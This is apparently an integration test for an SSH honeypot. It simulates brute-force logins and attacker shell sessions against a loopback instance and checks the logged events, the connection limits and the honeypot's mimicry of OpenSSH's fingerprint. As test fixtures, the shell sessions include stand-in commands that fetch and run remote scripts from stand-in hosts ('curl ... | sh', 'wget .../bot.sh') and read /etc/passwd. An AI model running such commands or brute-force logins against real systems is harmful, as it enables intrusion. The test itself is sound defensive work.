#!/usr/bin/env bash
# The SSH honeypot (mamori-honeypot, beside the mamori binary; docs/honeypot.md), started
# as root on a free loopback port: it drops to its own user (uid, NoNewPrivs, no
# capabilities); a scripted brute force with OpenSSH's client and sshpass (wrong
# passwords, then an accepted one running commands) and a paramiko session (a refused
# public key, then a shell with a pty) are recorded as ECS events in its outbox:
# connection (client version, HASSH), every password and its outcome, the key's type and
# fingerprint, every command line, the download URL (never fetched), session ends with
# duration and bytes. nmap -sV names it OpenSSH with the host's own sshd version, never
# libssh; its KEXINIT is the real sshd's (started beside it with the two sshd_config lines
# docs/honeypot.md advises: no sntrup761, no umac, which libssh 0.10 lacks), every list in
# sshd's order, and the two hasshServer are equal (the CI gate). auth_attempts,
# session_bytes and session_seconds close the connection with one event each; SIGHUP reopens events.jsonl
# after a rotation; a second honeypot with sessions = 2 refuses the third connection. Past sessions_per_address the extra connections are refused before a byte of
# SSH, with one limit event; the honeypot stays up and serves again afterwards.
source "$(dirname "$0")/lib.sh"

HONEYPOT=$(dirname "$MAMORI")/mamori-honeypot
[[ -x $HONEYPOT ]] || fail "mamori-honeypot is not built beside $MAMORI (cmake --build --preset dev --target mamori-honeypot)"
PY=/usr/bin/python3  # Debian's, with python3-paramiko
for tool in sshpass ssh nmap ssh-keygen; do
  command -v "$tool" >/dev/null || fail "$tool is not installed (tools/install-deps)"
done
"$PY" -c 'import paramiko' 2>/dev/null || fail "python3-paramiko is not installed (tools/install-deps)"

# The honeypot drops to an unprivileged user that exists already: tests running in
# parallel would race each other's useradd/userdel of a user of their own.
HP_USER=nobody
HP_UID=$(id -u "$HP_USER")
# The dropped process reaches its spool through the scratch directory (mktemp's 0700).
chmod 711 "$SCRATCH"
PORT=$("$PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
HP_STATE=$SCRATCH/honeypot
HP_EVENTS=$HP_STATE/events.jsonl
HP_LOG=$SCRATCH/honeypot.log
HP_CONFIG=$SCRATCH/honeypot.toml
PER_ADDRESS=4
cat >"$HP_CONFIG" <<TOML
listen = "127.0.0.1:$PORT"
state_dir = "$HP_STATE"
user = "$HP_USER"
[limits]
sessions_per_address = $PER_ADDRESS
auth_attempts = 6
session_bytes = 65536
session_seconds = 10
commands = 50
[[accepted]]
user = "root"
password = "Winter2024!"
[[accepted]]
user = "admin"
password = "admin"
TOML

HP_PID=""
stop_honeypot() {
  [[ -n $HP_PID ]] || return 0
  local pid=$HP_PID
  HP_PID=""
  stop_pid "$pid" "the honeypot" || fail "the honeypot did not stop within 10 s of SIGTERM"
}
# events_of PYTHON-FILTER: the honeypot's events so far (its outbox's JSON-lines export).
events_of() {
  "$PY" -c '
import json, sys
for line in open(sys.argv[2], encoding="utf-8", errors="replace"):
    if line.endswith("\n"):
        e = json.loads(line)
        if eval(sys.argv[1], {"e": e}):
            print(json.dumps(e, sort_keys=True))
' "$1" "$HP_EVENTS"
}
count_of() { events_of "$1" | wc -l; }
action_is() { echo "e[\"event\"][\"action\"] == \"$1\""; }
SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
          -o PubkeyAuthentication=no -o ConnectTimeout=10 -p "$PORT")

step "start the honeypot as root on 127.0.0.1:$PORT"
"$HONEYPOT" --config "$HP_CONFIG" >>"$HP_LOG" 2>&1 &
HP_PID=$!
on_exit "stop_honeypot"
hp_ready() { grep -q 'ready: listening' "$HP_LOG" || ! kill -0 "$HP_PID" 2>/dev/null; }
WAIT_ON=$SCRATCH WAIT_SECONDS=60 WAIT_EXPLAIN='cat "$HP_LOG"' wait_for "the honeypot to be ready" hp_ready
kill -0 "$HP_PID" 2>/dev/null || fail "the honeypot exited at start: $(cat "$HP_LOG")"

step "it dropped privileges: uids, gids, no capabilities, NoNewPrivs; keys 0600 root, spool its own"
read -r _ ruid euid suid fsuid < <(grep '^Uid:' /proc/$HP_PID/status)
assert_eq "$HP_UID $HP_UID $HP_UID $HP_UID" "$ruid $euid $suid $fsuid" "the honeypot's uids"
assert_eq "0000000000000000" "$(awk '/^CapEff:/{print $2}' /proc/$HP_PID/status)" "effective capabilities"
assert_eq "0000000000000000" "$(awk '/^CapPrm:/{print $2}' /proc/$HP_PID/status)" "permitted capabilities"
assert_eq "1" "$(awk '/^NoNewPrivs:/{print $2}' /proc/$HP_PID/status)" "NoNewPrivs"
assert_eq "" "$(awk '/^Groups:/{print $2}' /proc/$HP_PID/status)" "supplementary groups"
for key in ssh_host_ed25519_key ssh_host_ecdsa_key ssh_host_rsa_key; do
  assert_eq "600 root" "$(stat -c '%a %U' "$HP_STATE/host-keys/$key")" "$key's mode and owner"
done
assert_eq "700 $HP_USER" "$(stat -c '%a %U' "$HP_STATE/outbox")" "the outbox's mode and owner"

step "the banner is the host's sshd's, byte for byte"
want_banner="SSH-2.0-$(ssh -V 2>&1 | cut -d, -f1)"
got_banner=$("$PY" -c '
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
print(s.makefile("rb").readline().decode().rstrip("\r\n"))
' "$PORT")
assert_eq "$want_banner" "$got_banner" "the honeypot's banner (Debian ships sshd and ssh in one version)"

step "a brute force with OpenSSH's client: four wrong passwords, then an accepted one"
for pw in 123456 password toor 'root;--'; do
  expect_exit 5 timeout 30 sshpass -p "$pw" ssh "${SSH_OPTS[@]}" root@127.0.0.1 id
done
expect_exit 0 timeout 30 sshpass -p 'Winter2024!' ssh "${SSH_OPTS[@]}" root@127.0.0.1 \
  'uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd'
assert_contains "$OUT" "uid=0(root) gid=0(root) groups=0(root)"
assert_contains "$OUT" "root:x:0:0:root:/root:/bin/bash"
assert_contains "$OUT" "unable to resolve host address 'malware.example'"
assert_not_contains "$OUT" "libssh"
hostname_seen=$(awk '/^Linux /{print $2; exit}' <<<"$OUT")
[[ -n $hostname_seen && $hostname_seen != "$(hostname)" ]] || fail "uname -a names no fake host (or the real one): $OUT"

step "a paramiko client: a refused public key, then a shell with a pty"
ssh-keygen -q -t ed25519 -N '' -C '' -f "$SCRATCH/attacker_key"
want_fp=$(ssh-keygen -l -E sha256 -f "$SCRATCH/attacker_key.pub" | awk '{print $2}')
expect_exit 0 timeout 60 "$PY" - "$PORT" "$SCRATCH/attacker_key" <<'PYTHON'
import sys, time, paramiko
port, key_path = int(sys.argv[1]), sys.argv[2]
def client():
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    return c
c = client()
try:
    c.connect("127.0.0.1", port=port, username="git", pkey=paramiko.Ed25519Key.from_private_key_file(key_path),
              look_for_keys=False, allow_agent=False, timeout=10)
    sys.exit("the public key was accepted")
except paramiko.AuthenticationException:
    pass
c.close()
c = client()
c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False,
          allow_agent=False, timeout=10)
try:  # the honeypot as a proxy: refused, recorded
    c.get_transport().open_channel("direct-tcpip", ("mail.example", 25), ("127.0.0.1", 4444), timeout=10)
    sys.exit("a direct-tcpip channel was opened")
except paramiko.ChannelException:
    pass
ch = c.invoke_shell(term="xterm")
ch.settimeout(10)
def until(marker):
    buf, deadline = b"", time.monotonic() + 10
    while marker not in buf:
        if time.monotonic() > deadline:
            sys.exit("no %r in %r" % (marker, buf))
        buf += ch.recv(65536)
    return buf.decode(errors="replace")
until(b"$ ")
for command, want in [("whoami", "admin"), ("pwd", "/home/admin"), ("curl -fsSL http://203.0.113.5/x | sh", "Failed to connect to 203.0.113.5"), ("nosuchcmd", "command not found")]:
    ch.send(command + "\r")
    out = until(b"$ ")
    if want not in out:
        sys.exit("%r answered %r" % (command, out))
ch.send("exit\r")
if ch.recv_exit_status() != 0:
    sys.exit("exit status %d" % ch.recv_exit_status())
c.close()
PYTHON

step "per-connection limits: the 7th password on one connection, 100 KB typed into a shell, 60 commands"
expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
import socket, sys, time, paramiko
port = int(sys.argv[1])
t = paramiko.Transport(socket.create_connection(("127.0.0.1", port), timeout=10))
t.start_client(timeout=10)
tries = 0
try:
    for i in range(10):
        try:
            t.auth_password("oracle", "guess%d" % i)
            sys.exit("a guess was accepted")
        except paramiko.AuthenticationException:
            tries += 1
except (paramiko.SSHException, EOFError, OSError):
    pass
# Closed after the 6th refusal; a 7th already on its way in the same read may still get
# its refusal (never recorded: the events are checked below).
if tries not in (6, 7):
    sys.exit("expected the connection closed after 6 tries, got %d" % tries)
t.close()
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False,
          allow_agent=False, timeout=10)
ch = c.invoke_shell()
try:
    for _ in range(100):
        ch.send("echo " + "A" * 1000 + "\r")
        while ch.recv_ready():
            ch.recv(65536)
except (OSError, EOFError, paramiko.SSHException):
    pass  # the server closed the connection under the sender: what is expected
# paramiko's reader thread notices the close on its own time: bounded wait for it.
deadline = time.monotonic() + 10
while c.get_transport().is_active() and time.monotonic() < deadline:
    time.sleep(0.05)
if c.get_transport().is_active():
    sys.exit("the connection is still open past session_bytes")
PYTHON
# 60 commands where 50 are allowed: the connection ends after the 50th.
expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
import sys, time, paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port=int(sys.argv[1]), username="root", password="Winter2024!",
          look_for_keys=False, allow_agent=False, timeout=10)
ch = c.invoke_shell()
try:
    for _ in range(60):
        ch.send("id\r")
except (OSError, EOFError, paramiko.SSHException):
    pass
deadline = time.monotonic() + 10
while c.get_transport().is_active() and time.monotonic() < deadline:
    time.sleep(0.05)
if c.get_transport().is_active():
    sys.exit("the connection is still open past 50 commands")
PYTHON
limit_hit() { [[ $(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"$1\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"disconnect\"") -eq 1 ]]; }
WAIT_ON=$HP_STATE wait_for "one auth-attempts limit event" limit_hit auth-attempts
WAIT_ON=$HP_STATE wait_for "one session-bytes limit event" limit_hit session-bytes
WAIT_ON=$HP_STATE wait_for "one commands limit event" limit_hit commands
assert_eq 50 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"id\" and e[\"user\"][\"name\"] == \"root\"")" "root's recorded commands (the limit is 50)"
assert_eq 6 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"oracle\"")" "oracle's recorded tries"

step "every session ended (and was reaped)"
all_ended() { [[ $(count_of "$(action_is ssh-session-ended)") -ge $(count_of "$(action_is ssh-connection)") ]]; }
WAIT_ON=$HP_STATE WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$HP_EVENTS"' wait_for "a session-ended event for every connection" all_ended

step "the events: connections, passwords, key, commands, download, ends"
for pw in 123456 password toor 'root;--'; do
  n=$(count_of "$(action_is ssh-login-failed) and e[\"mamori\"][\"ssh\"].get(\"password\") == \"$pw\" and e[\"user\"][\"name\"] == \"root\" and e[\"event\"][\"outcome\"] == \"failure\"")
  assert_eq 1 "$n" "ssh-login-failed events for password '$pw'"
done
assert_eq 2 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"root\" and e[\"mamori\"][\"ssh\"][\"password\"] == \"Winter2024!\" and e[\"event\"][\"outcome\"] == \"success\"")" "root's accepted logins (the exec, the 60 commands)"
assert_eq 2 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"admin\"")" "admin's accepted logins (the shell, the 100 KB one)"
assert_eq 1 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"git\" and e[\"mamori\"][\"ssh\"][\"auth_method\"] == \"publickey\" and e[\"mamori\"][\"ssh\"][\"key_type\"] == \"ssh-ed25519\" and e[\"mamori\"][\"ssh\"][\"key_fingerprint\"] == \"$want_fp\"")" "the public-key attempt with its fingerprint $want_fp"
assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd\" and e[\"user\"][\"name\"] == \"root\"")" "the exec'ed command line"
for cmd in whoami pwd 'curl -fsSL http://203.0.113.5/x | sh' nosuchcmd exit; do
  assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"$cmd\" and e[\"user\"][\"name\"] == \"admin\"")" "the shell command '$cmd'"
done
assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://malware.example/bot.sh\"")" "wget's download attempt"
assert_eq 1 "$(count_of "$(action_is ssh-forward-attempted) and e[\"destination\"][\"address\"] == \"mail.example\" and e[\"destination\"][\"port\"] == 25 and e[\"user\"][\"name\"] == \"admin\"")" "the refused port forwarding"
assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://203.0.113.5/x\"")" "curl's download attempt"
n=$(count_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-OpenSSH_\") and len(e[\"mamori\"][\"ssh\"].get(\"hassh\", \"\")) == 32")
[[ $n -ge 5 ]] || fail "expected >= 5 connections from OpenSSH's client with a HASSH, got $n"
openssh_hassh=$(events_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-OpenSSH_\")" | "$PY" -c 'import json,sys; print(sorted({json.loads(l)["mamori"]["ssh"]["hassh"] for l in sys.stdin}))')
paramiko_hassh=$(events_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-paramiko_\")" | "$PY" -c 'import json,sys; print(sorted({json.loads(l)["mamori"]["ssh"].get("hassh") for l in sys.stdin}))')
[[ $openssh_hassh =~ ^\[\'[0-9a-f]{32}\'\]$ ]] || fail "OpenSSH's connections should share one HASSH: $openssh_hassh"
[[ $paramiko_hassh =~ ^\[\'[0-9a-f]{32}\'\]$ ]] || fail "paramiko's connections should share one HASSH: $paramiko_hassh"
assert_ne "$openssh_hassh" "$paramiko_hassh" "OpenSSH's and paramiko's HASSH"
assert_eq 1 "$(count_of "$(action_is ssh-session-ended) and e[\"mamori\"][\"ssh\"][\"end_reason\"] == \"logout\" and e[\"mamori\"][\"ssh\"][\"commands\"] == 5 and e[\"event\"][\"duration\"] > 0 and e[\"source\"][\"bytes\"] > 0 and e[\"destination\"][\"bytes\"] > 0")" "admin's session end with duration, bytes and 5 commands"
# Every event of a connection names it; every event carries its origin.
orphans=$("$PY" -c '
import json, sys
evs = [json.loads(l) for l in open(sys.argv[1])]
ids = {e["event"]["id"] for e in evs if e["event"]["action"] == "ssh-connection"}
bad = [e["event"]["action"] for e in evs
       if e["event"]["action"] not in ("ssh-limit-reached",) and e["event"]["action"].startswith("ssh-")
       and e.get("mamori", {}).get("ssh", {}).get("session") not in ids]
bad += ["no origin: " + e["event"]["action"] for e in evs if not e.get("agent", {}).get("id") or e["event"].get("dataset") != "mamori.honeypot"]
print(" ".join(bad))
' "$HP_EVENTS")
assert_eq "" "$orphans" "events without their connection or origin"
ls "$HP_STATE"/outbox/*.seg >/dev/null || fail "no outbox segment in $HP_STATE/outbox"

step "nmap -sV names it OpenSSH, never libssh"
nmap_out=$(timeout 120 nmap -sV -Pn -p "$PORT" 127.0.0.1)
assert_contains "$nmap_out" "OpenSSH 9.2p1 Debian" "nmap's service line"
assert_not_contains "$nmap_out" "libssh" "nmap's output"

step "the server HASSH gate: its KEXINIT is the real sshd's as docs/honeypot.md advises deploying it"
# The real sshd on another loopback port, with the honeypot's host keys, its compiled-in
# defaults (-f /dev/null: Debian's sshd_config sets no algorithms) less what libssh 0.10
# lacks: the two lines docs/honeypot.md tells operators to put in sshd_config so that the
# real sshd and the honeypot cannot be told apart by their offers.
SSHD_HARDENING=(-o 'KexAlgorithms=-sntrup761*' -o 'MACs=-umac-*')
SSHD_PORT=$("$PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
if [[ ! -d /run/sshd ]]; then  # sshd's privilege separation directory
  mkdir -m 0755 /run/sshd
  on_exit "rmdir /run/sshd"
fi
/usr/sbin/sshd -D -e -f /dev/null -o ListenAddress=127.0.0.1 -o PidFile=none -p "$SSHD_PORT" \
  "${SSHD_HARDENING[@]}" \
  -h "$HP_STATE/host-keys/ssh_host_ed25519_key" -h "$HP_STATE/host-keys/ssh_host_ecdsa_key" \
  -h "$HP_STATE/host-keys/ssh_host_rsa_key" 2>"$SCRATCH/sshd.log" &
SSHD_PID=$!
stop_sshd() {
  [[ -n $SSHD_PID ]] || return 0
  local pid=$SSHD_PID
  SSHD_PID=""
  stop_pid "$pid" sshd || fail "sshd did not stop within 10 s of SIGTERM"
}
on_exit "stop_sshd"
sshd_listening() { grep -q "Server listening on 127.0.0.1 port $SSHD_PORT" "$SCRATCH/sshd.log"; }
WAIT_ON=$SCRATCH WAIT_EXPLAIN='cat "$SCRATCH/sshd.log"' wait_for "the real sshd to listen" sshd_listening
# Every byte of the two SSH_MSG_KEXINIT payloads but the random cookie: the ten name-lists
# (kex, host keys, ciphers, MACs and compression each way, languages each way) in order,
# first_kex_packet_follows and the reserved word; and hasshServer (salesforce/hassh: md5
# of kex;ciphers;macs;compression as the server offers them, server to client) equal.
expect_exit 0 timeout 30 "$PY" - "$SSHD_PORT" "$PORT" <<'PYTHON'
import hashlib, socket, struct, sys
NAMES = ["kex", "host keys", "ciphers c2s", "ciphers s2c", "macs c2s", "macs s2c",
         "compression c2s", "compression s2c", "languages c2s", "languages s2c"]
def offer(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    f = s.makefile("rb")
    if not f.readline().startswith(b"SSH-2.0-"):
        sys.exit("no SSH banner on port %d" % port)
    s.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
    length, padding = struct.unpack(">IB", f.read(5))
    payload = f.read(length - 1)[: length - 1 - padding]
    if payload[0] != 20:
        sys.exit("port %d sent message %d, not KEXINIT" % (port, payload[0]))
    at, lists = 17, []
    for _ in range(10):
        (n,) = struct.unpack(">I", payload[at:at + 4])
        lists.append(payload[at + 4:at + 4 + n].decode().split(","))
        at += 4 + n
    s.close()
    return lists, payload[17:]
(sshd, sshd_rest), (honeypot, honeypot_rest) = offer(int(sys.argv[1])), offer(int(sys.argv[2]))
for name, theirs, ours in zip(NAMES, sshd, honeypot):
    if ours != theirs:
        sys.exit("%s: the honeypot offers %s, the hardened sshd %s" % (name, ours, theirs))
if honeypot_rest != sshd_rest:
    sys.exit("the KEXINIT payloads differ past the name-lists: %r vs %r" % (honeypot_rest[-5:], sshd_rest[-5:]))
if any(a.startswith(("sntrup761", "umac-")) for l in sshd for a in l):
    sys.exit("the hardened sshd still offers sntrup761 or umac: %s" % sshd)
hassh_server = lambda l: hashlib.md5(";".join(",".join(l[i]) for i in (0, 3, 5, 7)).encode()).hexdigest()
if hassh_server(sshd) != hassh_server(honeypot):
    sys.exit("hasshServer: sshd %s, honeypot %s" % (hassh_server(sshd), hassh_server(honeypot)))
print("hasshServer %s for both (kex %s)" % (hassh_server(honeypot), ",".join(honeypot[0])))
PYTHON
echo "$OUT"
stop_sshd

step "past $PER_ADDRESS sessions from one address the extra connections are refused, one event"
WAIT_ON=$HP_STATE WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$HP_EVENTS"' wait_for "nmap's sessions to end" all_ended
limits_before=$(count_of "$(action_is ssh-limit-reached)")
expect_exit 0 timeout 60 "$PY" - "$PORT" "$PER_ADDRESS" <<'PYTHON'
import socket, sys
port, limit = int(sys.argv[1]), int(sys.argv[2])
held, answers = [], []
for i in range(limit + 3):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    line = s.makefile("rb").readline()
    answers.append("banner" if line.startswith(b"SSH-2.0-") else "refused" if line == b"" else repr(line))
    held.append(s)
want = ["banner"] * limit + ["refused"] * 3
if answers != want:
    sys.exit("expected %s, got %s" % (want, answers))
for s in held:
    s.close()
PYTHON
limit_events() { [[ $(count_of "$(action_is ssh-limit-reached)") -gt $limits_before ]]; }
WAIT_ON=$HP_STATE wait_for "the limit event" limit_events
assert_eq 1 "$(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"sessions-per-address\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"refuse\" and e[\"source\"][\"ip\"] == \"127.0.0.1\"")" "sessions-per-address limit events (one for three refusals)"

step "a connection that just sits there is closed at session_seconds"
expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=30)
start = time.monotonic()
f = s.makefile("rb")
if not f.readline().startswith(b"SSH-2.0-"):
    sys.exit("no banner")
if f.read() != b"":  # blocks until the honeypot closes it
    sys.exit("data after the banner from a client that sent nothing")
took = time.monotonic() - start
if not 9 <= took <= 25:
    sys.exit("closed after %.1f s, session_seconds is 10" % took)
PYTHON
assert_eq 1 "$(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"session-seconds\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"disconnect\"")" "session-seconds limit events"

step "the honeypot is still up and serves a new session"
kill -0 "$HP_PID" 2>/dev/null || fail "the honeypot died: $(tail -n 20 "$HP_LOG")"
WAIT_ON=$HP_STATE WAIT_SECONDS=20 wait_for "the held sessions to end" all_ended
expect_exit 0 timeout 30 sshpass -p admin ssh "${SSH_OPTS[@]}" admin@127.0.0.1 whoami
assert_eq "admin" "$(tr -d '\r' <<<"$OUT")" "whoami after the flood"

step "SIGHUP after a rotation: events.jsonl is made again and gets the next events"
mv "$HP_EVENTS" "$HP_EVENTS.1"
kill -HUP "$HP_PID"
expect_exit 5 timeout 30 sshpass -p rotated ssh "${SSH_OPTS[@]}" rotate@127.0.0.1 id
rotated() { [[ -f $HP_EVENTS ]] && [[ $(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"rotate\"") -eq 1 ]]; }
WAIT_ON=$HP_STATE wait_for "the new events.jsonl with the login after the rotation" rotated
assert_eq 0 "$(grep -c '"rotate"' "$HP_EVENTS.1" || true)" "events after the rotation in the old file"

step "SIGTERM stops it cleanly"
stop_honeypot
assert_eq 0 "$STOPPED_RC" "the honeypot's exit status"
assert_contains "$(cat "$HP_LOG")" "mamori-honeypot: stopped"

step "a second honeypot with sessions = 2: the third connection (any address) is refused, one event"
cat >"$SCRATCH/small.toml" <<TOML
listen = "127.0.0.1:$PORT"
state_dir = "$SCRATCH/small"
user = "$HP_USER"
[limits]
sessions = 2
TOML
"$HONEYPOT" --config "$SCRATCH/small.toml" >>"$HP_LOG.small" 2>&1 &
HP_PID=$!
small_ready() { grep -q 'ready: listening' "$HP_LOG.small" || ! kill -0 "$HP_PID" 2>/dev/null; }
WAIT_ON=$SCRATCH WAIT_SECONDS=60 WAIT_EXPLAIN='cat "$HP_LOG.small"' wait_for "the second honeypot to be ready" small_ready
expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
import socket, sys
port = int(sys.argv[1])
held, answers = [], []
for i in range(4):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    line = s.makefile("rb").readline()
    answers.append("banner" if line.startswith(b"SSH-2.0-") else "refused" if line == b"" else repr(line))
    held.append(s)
if answers != ["banner", "banner", "refused", "refused"]:
    sys.exit("expected two banners then two refusals, got %s" % answers)
PYTHON
HP_EVENTS=$SCRATCH/small/events.jsonl
total_limit() { [[ $(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"sessions\"") -ge 1 ]]; }
WAIT_ON=$SCRATCH/small wait_for "the sessions limit event" total_limit
assert_eq 1 "$(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"sessions\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"refuse\"")" "sessions limit events (one for two refusals)"
stop_honeypot
assert_eq 0 "$STOPPED_RC" "the second honeypot's exit status"

